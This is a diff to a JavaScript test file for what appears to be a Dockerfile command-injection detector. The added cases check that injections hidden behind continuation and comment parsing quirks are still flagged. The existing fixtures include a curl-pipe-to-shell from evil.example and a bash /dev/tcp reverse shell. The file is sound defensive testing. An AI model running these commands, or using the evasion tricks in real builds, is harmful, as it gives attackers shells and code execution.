@@ -3402,6 +3402,13 @@ t.test("thirty-ninth round, after the forty-third part's measurement: a Dockerfi
   t.same(json({ code: '# syntax=docker/dockerfile:1\nARG VERSION=1.2\nFROM --platform=$BUILDPLATFORM golang:1.22 AS build\nWORKDIR /src\nRUN go mod download && go build -o /out/app .\nFROM gcr.io/distroless/base\nCOPY --from=build /out/app /app\n' }), [], 'a multi-stage build')
   // a reverse shell or a download run at once is read in a Dockerfile as in a shell script; so is an injection on its first line, and a
   // value that only looks like one (no FROM first, a line no instruction opens)
+  // (review) lines a shell reads apart that the first version took for a continuation or a comment: `\ ` or `\⏎` after a CR, `\\`, a
+  // comment inside a continuation, a CR or a no-break space before `#`, a build argument continued into its next line
+  const B = 'FROM alpine:3.19\nLABEL maintainer=ops\n'
+  const T = 'CMD ["nginx"]\n'
+  for (const v of [`${B}LABEL a=b \\ \nid;uname -a\n${T}`, `${B}LABEL a=b \\\r\nid;uname -a\n${T}`, `${B}LABEL a=b\\\\\nid;uname -a\n${T}`, `${B}LABEL a=b \\\n# note \\\nuname -a;id\n${T}`, `${B}\r# x;id\n${T}`, `${B}\u00a0# x;id\n${T}`, 'ARG a=\\\n;id;\nFROM alpine\nLABEL a=b\nCMD x\n', 'from alpine\nenv x id; id\nrun a\ncmd b']) {
+    t.ok(json({ code: v }).includes('rce'), `still read: ${JSON.stringify(v)}`)
+  }
   for (const v of ['FROM alpine\nRUN apk add curl\nRUN curl -s http://evil.example/x.sh | sh\nCMD ["sh"]', 'FROM alpine\nRUN apk add bash\nRUN bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\nCMD ["sh"]', 'x; id\nFROM alpine\nRUN a && b\nCMD c', 'RUN a && b\nRUN c && id\nENV x y\nCMD d; id', 'FROM alpine\nRUN a\nid; whoami\nCMD b']) {
     t.ok(json({ code: v }).includes('rce'), `still read: ${JSON.stringify(v)}`)
   }
